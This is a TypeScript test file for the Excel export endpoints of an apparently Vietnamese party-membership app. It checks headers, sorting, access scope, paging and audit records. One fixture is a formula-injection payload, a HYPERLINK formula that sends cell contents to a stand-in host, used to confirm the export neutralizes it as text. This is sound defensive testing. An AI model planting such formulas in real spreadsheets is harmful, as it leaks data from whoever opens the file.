import { sql } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { IMPORT_HEADERS, PERSON_IMPORT_FIELDS } from '../../../common/contracts/imports.ts'
import { queryRows } from '../../db/client.ts'
import { systemCtx } from '../../lib/actor.ts'
import { assessedMembers } from '../../test/evaluation-fixtures.ts'
import { makePerson, makeTree, makeUser } from '../../test/factories.ts'
import { call, useTestApp, withAuth, type Auth } from '../../test/harness.ts'
import { getCommitment } from '../commitments/commitments.service.ts'
import { recordReview } from '../evaluations/evaluations.service.ts'
import type { OrgRow } from '../organizations/organizations.service.ts'
import { createPerson } from '../people/people.service.ts'
import { batchUnits } from './exports.evaluations.ts'
import type { TreeUnit } from './exports.organizations.ts'
import { peopleSheet, planPeopleExport } from './exports.people.ts'

const t = useTestApp()
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'

async function download(auth: Auth, url: string) {
  const res = await t.app.inject(withAuth(auth, { method: 'GET', url }))
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200)
  expect(res.headers['content-type']).toBe(XLSX)
  expect(res.headers['cache-control']).toBe('no-store')
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer)
  return { ws: workbook.worksheets[0], disposition: String(res.headers['content-disposition']) }
}

const headersOf = (ws: ExcelJS.Worksheet) => (ws.getRow(1).values as unknown[]).slice(1)

/** Data rows as header → value. */
function records(ws: ExcelJS.Worksheet): Record<string, unknown>[] {
  const headers = headersOf(ws) as string[]
  const out: Record<string, unknown>[] = []
  ws.eachRow((row, n) => {
    if (n > 1) out.push(Object.fromEntries(headers.map((h, i) => [h, row.getCell(i + 1).value ?? null])))
  })
  return out
}

/** A person placed in `org` with the given position, through the service (as an office would). */
async function placed(org: OrgRow, fullName: string, position: string, extra: Record<string, unknown> = {}) {
  return createPerson({
    db: t.database.db, ctx: systemCtx('test'), org,
    input: { fullName, ...extra, placement: { position, leadershipTier: 'none', isPrimary: true, fromDate: '2024-01-01' } },
  })
}

async function lastAudit(action: string) {
  const [row] = await queryRows<{ organization_id: string | null; data: Record<string, unknown>; actor_label: string }>(t.database.db, sql`
    select organization_id, data, actor_label from audit_events where action = ${action} order by seq desc limit 1`)
  return row
}

describe('people export', () => {
  it('writes the importer\'s headers, real dates, frozen header, widths, neutralized text, in Vietnamese order', async () => {
    const db = t.database.db
    const tree = await makeTree(db)
    await placed(tree.cellA1, 'Lê Văn Bình', 'Bí thư chi bộ', {
      birthDate: '1980-04-30', gender: 'male', ethnicity: 'Kinh', partyJoinDate: '2005-05-19', partyCardNumber: `93.${Date.now()}`, phone: '+84 901 234 567', email: 'binh@example.vn',
    })
    await placed(tree.cellA1, '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '+1')
    await makePerson(db, tree.cellA2, 'Phạm Thị Ánh'.normalize('NFD'), { gender: 'female' })
    await makePerson(db, tree.cellA2, 'Hoàng Văn Anh')
    await makePerson(db, tree.cellA1, 'Đỗ Thị Lan')
    await makePerson(db, tree.cellB1, 'Trần Văn Ngoài')
    const office = await makeUser(db, [{ role: 'office', org: tree.communeA }])

    const { ws, disposition } = await download(office.auth, `/api/v1/exports/people?org=${tree.communeA.id}`)
    expect(disposition).toMatch(/^attachment; filename="nguoi-dang-bo-xa-an-hoa-\d{4}-\d{2}-\d{2}\.xlsx"; filename\*=UTF-8''Ng%C6%B0%E1%BB%9Di%20-%20/)
    expect(ws.name).toBe('Danh sách đảng viên')
    const person = PERSON_IMPORT_FIELDS.filter((f) => f !== 'unit').map((f) => IMPORT_HEADERS[f][0])
    expect(headersOf(ws)).toEqual(['STT', 'Họ và tên', 'Ngày sinh', 'Giới tính', 'Dân tộc', 'Chức vụ', 'Mã đơn vị', 'Tên đơn vị', 'Ngày vào Đảng', 'Số thẻ đảng viên', 'Điện thoại', 'Thư điện tử'])
    expect(headersOf(ws)).toEqual(expect.arrayContaining([...person, IMPORT_HEADERS.unit[0]]))
    expect(ws.getCell('B1').font?.bold).toBe(true)
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(ws.getColumn(2).width).toBeGreaterThanOrEqual(20)
    expect(ws.autoFilter).toBe('A1:L1')

    const rows = records(ws)
    // Vietnamese order (given name, then middle, then family name), the other commune left out, names in NFC.
    // (The forged name's "given name" is `"Bấm")`: punctuation sorts first.)
    expect(rows.map((r) => r['Họ và tên'])).toEqual(['\'=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', 'Hoàng Văn Anh', 'Phạm Thị Ánh'.normalize('NFC'), 'Lê Văn Bình', 'Đỗ Thị Lan'])
    expect(rows.map((r) => r.STT)).toEqual([1, 2, 3, 4, 5])
    const binh = rows[3]
    expect(binh).toMatchObject({
      'Giới tính': 'Nam', 'Dân tộc': 'Kinh', 'Chức vụ': 'Bí thư chi bộ', 'Mã đơn vị': tree.cellA1.code, 'Tên đơn vị': 'Chi bộ Giáo viên An Hòa',
      'Điện thoại': "'+84 901 234 567", 'Thư điện tử': 'binh@example.vn',
    })
    expect(binh['Ngày sinh']).toEqual(new Date(Date.UTC(1980, 3, 30)))
    expect(binh['Ngày vào Đảng']).toEqual(new Date(Date.UTC(2005, 4, 19)))
    expect(ws.getCell('C5').numFmt).toBe('dd/mm/yyyy')
    expect(rows[2]['Giới tính']).toBe('Nữ')
    // Formula injection: text, never a formula.
    expect(rows[0]['Chức vụ']).toBe("'+1")
    expect(ws.getCell('B2').type).toBe(ExcelJS.ValueType.String)

    const audited = await lastAudit('export.people')
    expect(audited).toMatchObject({ organization_id: tree.communeA.id, actor_label: office.username, data: { filters: { org: tree.communeA.id, q: null, subtree: true, contact: true } } })
  })

  it('follows the list\'s filters and scope, and leaves contact details out for an inspector', async () => {
    const db = t.database.db
    const tree = await makeTree(db)
    await makePerson(db, tree.cellA1, 'Nguyễn Văn Dũng', { phone: '0901 000 111' })
    await makePerson(db, tree.cellA2, 'Lê Văn Dụng')
    await makePerson(db, tree.cellB1, 'Trần Văn Dũng')
    const office = await makeUser(db, [{ role: 'office', org: tree.communeA }])
    const inspector = await makeUser(db, [{ role: 'inspector', org: tree.schoolA }])
    // A secretary over a single cell sees the phone numbers of that cell only.
    const secretary = await makeUser(db, [{ role: 'secretary', org: tree.cellA1, scope: 'unit' }])

    // Without a unit: the caller's own subtree; with a query: exact-diacritic matches first.
    const mine = records((await download(office.auth, `/api/v1/exports/people?q=${encodeURIComponent('Dũng')}`)).ws)
    expect(mine.map((r) => r['Họ và tên'])).toEqual(['Nguyễn Văn Dũng', 'Lê Văn Dụng'])
    const unitOnly = records((await download(office.auth, `/api/v1/exports/people?org=${tree.schoolA.id}&subtree=false`)).ws)
    expect(unitOnly).toEqual([])

    const inspected = await download(inspector.auth, `/api/v1/exports/people?org=${tree.schoolA.id}`)
    expect(headersOf(inspected.ws)).not.toContain('Điện thoại')
    expect(headersOf(inspected.ws)).not.toContain('Thư điện tử')
    expect(records(inspected.ws).map((r) => r['Họ và tên'])).toEqual(['Nguyễn Văn Dũng', 'Lê Văn Dụng'])
    expect((await lastAudit('export.people')).data).toMatchObject({ filters: { contact: false } })

    const own = await download(secretary.auth, `/api/v1/exports/people?org=${tree.cellA1.id}&subtree=false`)
    expect(records(own.ws)).toEqual([expect.objectContaining({ 'Họ và tên': 'Nguyễn Văn Dũng', 'Điện thoại': '0901 000 111' })])
    const noOrg = await download(secretary.auth, '/api/v1/exports/people')
    expect(headersOf(noOrg.ws)).toContain('Điện thoại')

    expect((await call(t.app, inspector.auth, 'GET', `/api/v1/exports/people?org=${tree.communeB.id}`)).status).toBe(403)
  })

  it('reads the list in keyset pages: small pages give the same rows in the same order as one page', async () => {
    const db = t.database.db
    const tree = await makeTree(db)
    for (const name of ['Trần Văn Bình', 'Nguyễn Thị Bình', 'Lê Văn An', 'Lê Văn An', 'Phạm Đức Dũng', 'Hồ Thị Dung', 'Đặng Văn Đông', 'Cao Văn Dụng']) {
      await makePerson(db, tree.cellB1, name)
    }
    const actor = systemCtx('test').actor
    const names = async (q: string | undefined, pageSize?: number) => {
      const plan = await planPeopleExport(db, actor, { org: tree.communeB.id, q })
      const out: unknown[] = []
      for await (const page of peopleSheet(db, plan, q, pageSize).pages) out.push(...page.map((r) => [r.n, r.fullName]))
      return out
    }
    for (const q of [undefined, 'dung']) {
      const whole = await names(q)
      expect(whole.length).toBe(q ? 3 : 8)
      expect(await names(q, 3)).toEqual(whole)
      expect(await names(q, 1)).toEqual(whole)
    }
  })

  it('answers a JSON error before any byte of a file, and audits nothing then', async () => {
    const db = t.database.db
    const tree = await makeTree(db)
    const office = await makeUser(db, [{ role: 'office', org: tree.root }])
    const missing = '00000000-0000-4000-8000-000000000000'
    const before = await queryRows<{ n: number }>(db, sql`select count(*)::int as n from audit_events where action like 'export.%'`)
    for (const [url, status, code] of [
      [`/api/v1/exports/people?org=${missing}`, 404, 'not_found'],
      [`/api/v1/exports/organizations?org=${missing}`, 404, 'not_found'],
      [`/api/v1/exports/commitments?org=${tree.cellA1.id}&cycle=${missing}`, 404, 'not_found'],
      [`/api/v1/exports/evaluations?org=${tree.cellA1.id}&cycle=nam-nay`, 422, 'validation_failed'],
      [`/api/v1/exports/dashboard?org=${tree.root.id}`, 422, 'validation_failed'],
    ] as const) {
      const res = await call(t.app, office.auth, 'GET', url)
      expect(res.status, url).toBe(status)
      expect(res.headers['content-type']).toMatch(/^application\/json/)
      expect(res.body.error.code).toBe(code)
    }
    const after = await queryRows<{ n: number }>(db, sql`select count(*)::int as n from audit_events where action like 'export.%'`)
    expect(Number(after[0].n)).toBe(Number(before[0].n))
  })
})

describe('organizations export', () => {
  it('writes the subtree in tree order under the importer\'s headers; a unit grant gets the unit and its direct sub-units', async () => {
    const db = t.database.db
    const tree = await makeTree(db)
    await makePerson(db, tree.cellA1, 'Nguyễn Văn An')
    await makePerson(db, tree.cellA2, 'Lê Thị Bình')
    const office = await makeUser(db, [{ role: 'office', org: tree.root }])
    const { ws, disposition } = await download(office.auth, `/api/v1/exports/organizations?org=${tree.communeA.id}`)
    expect(disposition).toMatch(/^attachment; filename="to-chuc-dang-bo-xa-an-hoa-/)
    expect(headersOf(ws)).toEqual([IMPORT_HEADERS.code[0], IMPORT_HEADERS.name[0], IMPORT_HEADERS.kind[0], IMPORT_HEADERS.parent[0], 'Trạng thái', 'Số đảng viên'])
    expect(records(ws)).toEqual([
      { 'Mã đơn vị': tree.communeA.code, 'Tên đơn vị': 'Đảng bộ xã An Hòa', Loại: 'Đảng bộ xã', 'Mã đơn vị cấp trên': tree.root.code, 'Trạng thái': 'Đang hoạt động', 'Số đảng viên': 2 },
      { 'Mã đơn vị': tree.schoolA.code, 'Tên đơn vị': 'Đảng bộ Trường THPT An Hòa', Loại: 'Tổ chức cơ sở đảng', 'Mã đơn vị cấp trên': tree.communeA.code, 'Trạng thái': 'Đang hoạt động', 'Số đảng viên': 2 },
      { 'Mã đơn vị': tree.cellA1.code, 'Tên đơn vị': 'Chi bộ Giáo viên An Hòa', Loại: 'Chi bộ', 'Mã đơn vị cấp trên': tree.schoolA.code, 'Trạng thái': 'Đang hoạt động', 'Số đảng viên': 1 },
      { 'Mã đơn vị': tree.cellA2.code, 'Tên đơn vị': 'Chi bộ Hành chính An Hòa', Loại: 'Chi bộ', 'Mã đơn vị cấp trên': tree.schoolA.code, 'Trạng thái': 'Đang hoạt động', 'Số đảng viên': 1 },
    ])
    expect(await lastAudit('export.organizations')).toMatchObject({ organization_id: tree.communeA.id, data: { rows: 4, filters: { org: tree.communeA.id, includeInactive: false } } })

    const member = await makeUser(db, [{ role: 'member', org: tree.communeA, scope: 'unit' }])
    const browsed = records((await download(member.auth, `/api/v1/exports/organizations?org=${tree.communeA.id}`)).ws)
    expect(browsed.map((r) => r['Mã đơn vị'])).toEqual([tree.communeA.code, tree.schoolA.code])
    expect((await call(t.app, member.auth, 'GET', `/api/v1/exports/organizations?org=${tree.schoolA.id}`)).status).toBe(403)
  })
})

describe('commitments, evaluations and dashboard exports', () => {
  it('reads ratings a batch of units at a time, each about a page of people, in tree order', () => {
    const unit = (id: string, peopleCount: number) => ({ id, peopleCount }) as TreeUnit
    const units = [unit('a', 0), unit('b', 3), unit('c', 2), unit('d', 5), unit('e', 1)]
    expect(batchUnits(units, 4).map((b) => b.map((u) => u.id))).toEqual([['a', 'b', 'c'], ['d'], ['e']])
    expect(batchUnits(Array.from({ length: 1200 }, (_, i) => unit(String(i), 0)), 1000).map((b) => b.length)).toEqual([500, 500, 200])
  })

  it('writes the unit\'s roster, the subtree\'s ratings and the sub-units\' figures for a cycle', async () => {
    const db = t.database.db
    const tree = await makeTree(db)
    const { cycle, members } = await assessedMembers(db, tree, tree.cellA1, 2)
    await makePerson(db, tree.cellA1, 'Ông Chưa Đăng Ký')
    const commitment = await getCommitment(db, members[0].commitmentId)
    await recordReview({
      db, ctx: systemCtx('test'), commitment, cycle, unit: tree.cellA1,
      input: { reviewDate: `${cycle.year}-12-01`, attendancePresent: 9, attendanceTotal: 10, votes: { excellent: 7, good: 2, complete: 0, incomplete: 0 }, proposedLevel: 'excellent', comment: '@chi bộ đề nghị', shortcomings: ['Chưa tham gia đủ sinh hoạt khu dân cư'] },
    })
    const leader = await makeUser(db, [{ role: 'leader', org: tree.root }])

    const roster = await download(leader.auth, `/api/v1/exports/commitments?org=${tree.cellA1.id}&cycle=${cycle.id}`)
    expect(roster.disposition).toMatch(new RegExp(`^attachment; filename="cam-ket-${cycle.year}-chi-bo-giao-vien-an-hoa-`))
    const lines = records(roster.ws)
    expect(lines.map((r) => [r['Họ và tên'], r['Trạng thái']])).toEqual([
      ['Đảng viên Thử 1', 'Đã duyệt'], ['Đảng viên Thử 2', 'Đã duyệt'], ['Ông Chưa Đăng Ký', 'Chưa đăng ký'],
    ])
    expect(lines[0]).toMatchObject({ 'Tự xếp loại': 'Hoàn thành xuất sắc nhiệm vụ', 'Tự chấm điểm': 100 })
    expect(lines[0]['Ngày gửi']).toBeInstanceOf(Date)
    expect(lines[2]['Ngày gửi']).toBeNull()

    const ratings = await download(leader.auth, `/api/v1/exports/evaluations?org=${tree.root.id}&cycle=${cycle.id}`)
    expect(records(ratings.ws)).toEqual([expect.objectContaining({
      'Họ và tên': 'Đảng viên Thử 1', 'Đơn vị': 'Chi bộ Giáo viên An Hòa', 'Ngày họp nhận xét': new Date(Date.UTC(cycle.year, 11, 1)),
      'Số có mặt': 9, 'Tổng số': 10, 'Phiếu HTXSNV': 7, 'Phiếu HTTNV': 2, 'Chi bộ đề nghị': 'Hoàn thành xuất sắc nhiệm vụ',
      'Trạng thái': 'Chờ quyết định', 'Mức quyết định': null, 'Nhận xét': "'@chi bộ đề nghị", 'Hạn chế, khuyết điểm': 'Chưa tham gia đủ sinh hoạt khu dân cư',
    })])
    expect(await lastAudit('export.evaluations')).toMatchObject({ data: { rows: 1, filters: { org: tree.root.id, cycle: cycle.id } } })

    const dashboard = await download(leader.auth, `/api/v1/exports/dashboard?org=${tree.root.id}&cycle=${cycle.id}`)
    const units = records(dashboard.ws)
    expect(units.map((u) => u['Đơn vị'])).toEqual(['Đảng bộ phường Bình Minh', 'Đảng bộ xã An Hòa'])
    expect(units[1]).toMatchObject({ 'Số đảng viên': 3, 'Đã đăng ký': 2, 'Đã duyệt': 2, 'Đã tự đánh giá': 2, 'Chi bộ đã nhận xét': 1, 'Chờ quyết định': 1, 'Đã quyết định': 0 })
    expect(units[1]['Tỷ lệ đăng ký']).toBeCloseTo(2 / 3)
    expect(dashboard.ws.getCell('F3').numFmt).toBe('0.0%')
    expect(units[0]['Tỷ lệ đăng ký']).toBeNull()

    // An office of the other commune sees none of it.
    const outsider = await makeUser(db, [{ role: 'office', org: tree.communeB }])
    for (const list of ['commitments', 'evaluations']) {
      expect((await call(t.app, outsider.auth, 'GET', `/api/v1/exports/${list}?org=${tree.cellA1.id}&cycle=${cycle.id}`)).status).toBe(403)
    }
  })
})
